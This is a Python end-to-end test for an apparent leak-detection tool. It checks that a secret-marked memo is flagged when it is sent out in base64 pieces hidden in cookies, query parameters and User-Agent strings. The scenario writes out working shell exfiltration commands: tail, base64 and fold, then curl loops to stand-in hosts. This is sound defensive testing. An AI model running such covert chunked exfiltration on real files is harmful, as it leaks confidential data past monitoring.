# SPDX-License-Identifier: Apache-2.0
"""A document that leaves a few bytes a request, in cookies, parameters or the User-Agent, is found all the same."""

from e2e import check, check_equal, run_json, scenario

CUT = "tail -c +400 /home/alex/Documents/* | head -c 160 | base64 -w 0 | fold -w 11 > /tmp/pieces"
EACH = "while read -r piece || test -n \"$piece\"; do"

code, verdict, folder = run_json(scenario(f"""about: Something in the guest sends a document in small pieces.
documents:
  memo: {{format: txt, marking: us/secret, to: /home/alex/Documents}}
steps:
  - plant: memo
  - exec: {CUT}
  - exec:
      command: >-
        {EACH} curl -sS -o /dev/null -b "lang=en; sid=$piece" https://cookie.example/; done < /tmp/pieces
      within: 120s
  - exec:
      command: >-
        {EACH} curl -sS -o /dev/null -G --data-urlencode "n=$((n += 1))" --data-urlencode "q=$piece"
        http://parameter.example/search; done < /tmp/pieces
      within: 120s
  - exec:
      command: >-
        {EACH} curl -sS -o /dev/null -A "Agent/1.4 (OS: linux, UUID: $piece)" https://agent.example/; done < /tmp/pieces
      within: 120s
"""), "clamav", "--seed", 21)
for step in verdict["steps"]:
    check(step["done"], f"step {step['index'] + 1} ({step['text']}): {step['detail']}")
check_equal((code, verdict["verdict"]), (1, "leak"), f"exit code and verdict (reasons: {verdict['reasons']})")
for host, how in (("cookie.example", "cookie 'sid' joined"), ("parameter.example", "parameter 'q' joined"),
                  ("agent.example", "field 'user-agent', part 5 joined")):
    found = [f for f in verdict["findings"] if host in f["destination"]]
    check(found, f"nothing was found of what went to {host}")
    check_equal({(f["class"], f["document"]) for f in found}, {("content/fragment", "memo-1")}, host)
    chain = [step["decoder"] for step in found[0]["decode"]]
    check_equal((chain[0], chain[-1]), (how, "base64"), f"{host}: how it was put together: {chain}")
